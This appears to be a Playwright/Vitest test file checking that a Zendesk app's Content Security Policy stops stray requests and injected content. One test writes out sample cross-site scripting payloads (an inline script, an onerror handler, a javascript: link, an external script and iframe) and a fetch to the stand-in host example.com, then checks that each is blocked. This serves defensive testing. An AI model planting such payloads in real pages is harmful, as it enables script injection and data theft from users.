import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sdkScript } from '#sandbox/serve/sdkScript.ts';
import { seedThemes } from './seedThemes.ts';
import { customerWrites, openBoard, openStage, openTicket, OUR_OBJECTS, type Stage } from './stage.ts';

const CALENDAR =
  'Is there any way to see my shifts in my personal Google calendar? Write to ana@example.com.';
const BUILT = resolve(import.meta.dirname, '../../dist/app/assets');

let stage: Stage;
let ticket: number;
let themeId: string;

/** What a page's frames asked for, and what their policy stopped. */
interface Watched {
  readonly page: Page;
  readonly requests: { readonly from: string; readonly to: string; readonly fate: () => string }[];
  readonly stopped: { readonly directive: string; readonly what: string }[];
}

beforeAll(async () => {
  stage = await openStage({ setUp: OUR_OBJECTS, planLimits: { requestsPerMinute: 100_000 } });
  themeId = (await seedThemes(stage.zendesk))[0]?.id ?? '';
  ticket = await customerWrites(stage, 20, 'Calendar', CALENDAR);
});

afterAll(async () => {
  await stage.close();
});

async function watched(): Promise<Watched> {
  const page = await stage.enter('priya');
  const requests: Watched['requests'] = [];
  const stopped: Watched['stopped'] = [];
  page.on('request', (request) => {
    const from = request.isNavigationRequest() ? '' : request.frame().url();
    requests.push({ from, to: request.url(), fate: () => request.failure()?.errorText ?? '' });
  });
  await page.exposeFunction('tellStopped', (directive: string, what: string) => {
    stopped.push({ directive, what });
  });
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const tell = (globalThis as unknown as { tellStopped: (...said: string[]) => void }).tellStopped;
      tell(event.effectiveDirective, event.blockedURI);
    });
  });
  return { page, requests, stopped };
}

/** A click through what people do most in the sidebar, each panel and field once. */
async function workInSidebar({ page }: Watched): Promise<void> {
  const sidebar = await openTicket(stage, page, ticket);
  await sidebar
    .getByRole('button', { name: /Shifts in the personal calendar/ })
    .first()
    .click();
  await sidebar.getByText('Tagged by you').waitFor();
  await sidebar.getByRole('button', { name: 'Their words' }).click();
  await sidebar.locator('q').first().waitFor();
}

async function workOnBoard({ page }: Watched): Promise<void> {
  const board = await openBoard(stage, page);
  await board.getByRole('searchbox').or(board.getByRole('textbox')).first().fill('calendar');
  await board
    .getByText(/Shifts in the personal calendar/)
    .first()
    .waitFor();
  const theme = await openBoard(stage, page, `themes/${themeId}`);
  await theme.getByRole('heading', { level: 1 }).waitFor();
  await theme.locator('q').first().waitFor();
}

function appFrame(page: Page): Frame {
  const frame = page.frames().find((one) => one.url().startsWith(stage.zendesk.appUrl));
  if (frame === undefined) throw new Error('The page shows no app');
  return frame;
}

const PAGES = [
  ['sidebar', workInSidebar],
  ['board', workOnBoard],
] as const;

describe.each(PAGES)('the %s', (name, work) => {
  it('loads its own files, Zendesk’s client and pictures of people, and nothing of it is stopped', async () => {
    const seen = await watched();
    await work(seen);
    const { appUrl, url } = stage.zendesk;
    const own = seen.requests.filter(({ from }) => from.startsWith(appUrl)).map(({ to }) => to);
    expect(own.some((to) => to.includes('/assets/'))).toBe(true);
    const isAllowed = (to: string): boolean =>
      [`${appUrl}/sdk/zaf_sdk.js`, `${url}/local/avatars/`, 'data:', 'blob:'].some((start) =>
        to.startsWith(start),
      ) ||
      (to.startsWith(appUrl) && new URL(to).pathname.includes('/assets/'));
    expect(own.filter((to) => !isAllowed(to))).toEqual([]);
    const everything = seen.requests.map(({ to }) => to).filter((to) => to.startsWith('http'));
    expect(everything.filter((to) => !to.startsWith(`${url}/`) && !to.startsWith(`${appUrl}/`))).toEqual([]);
    expect(seen.stopped).toEqual([]);
    await seen.page.context().close();
  });

  it('runs no script that somebody put into it, and sends nothing away', async () => {
    const seen = await watched();
    await work(seen);
    const frame = appFrame(seen.page);
    const got = await frame.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.hacked = "inline script"';
      document.body.append(script);
      const far = document.createElement('script');
      far.src = 'https://example.com/x.js';
      document.body.append(far);
      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.hacked = `handler`">');
      document.body.insertAdjacentHTML(
        'beforeend',
        '<a id="bad" href="javascript:window.hacked=`link`">x</a>',
      );
      document.getElementById('bad')?.click();
      document.body.insertAdjacentHTML('beforeend', '<iframe src="https://example.com/"></iframe>');
      document.body.insertAdjacentHTML('beforeend', '<style>body { display: none }</style>');
      const gone = await fetch('https://example.com/?q=1').then(
        () => 'sent',
        () => 'stopped',
      );
      await new Promise((done) => setTimeout(done, 200));
      const { hacked } = window as unknown as { hacked?: string };
      return { hacked: hacked ?? null, gone, display: getComputedStyle(document.body).display };
    });
    expect(got).toEqual({ hacked: null, gone: 'stopped', display: 'block' });
    const directives = new Set(seen.stopped.map(({ directive }) => directive));
    for (const directive of [
      'script-src-elem',
      'script-src-attr',
      'style-src-elem',
      'connect-src',
      'frame-src',
    ])
      expect(directives).toContain(directive);
    const away = seen.requests.filter(({ to }) => to.includes('example.com'));
    expect(away.map(({ fate }) => fate())).toEqual(away.map(() => 'csp'));
    await seen.page.context().close();
  });

  it('starts with the client from Zendesk’s own address, as it is shipped', async () => {
    const seen = await watched();
    const script = sdkScript();
    await seen.page.route('https://static.zdassets.com/**', (route) =>
      route.fulfill({ contentType: 'text/javascript', body: script }),
    );
    await seen.page.route(`**/assets/${name}.html*`, (route) =>
      route.fulfill({ contentType: 'text/html', body: readFileSync(resolve(BUILT, `${name}.html`), 'utf8') }),
    );
    await work(seen);
    const clients = seen.requests
      .filter(({ to }) => to.includes('zaf_sdk'))
      .map(({ to }) => new URL(to).host);
    expect(clients.length).toBeGreaterThan(0);
    expect(new Set(clients)).toEqual(new Set(['static.zdassets.com']));
    // Pictures of people are over http here, which this policy rightly stops.
    expect(seen.stopped.filter(({ directive }) => directive !== 'img-src')).toEqual([]);
    await seen.page.context().close();
  });
});
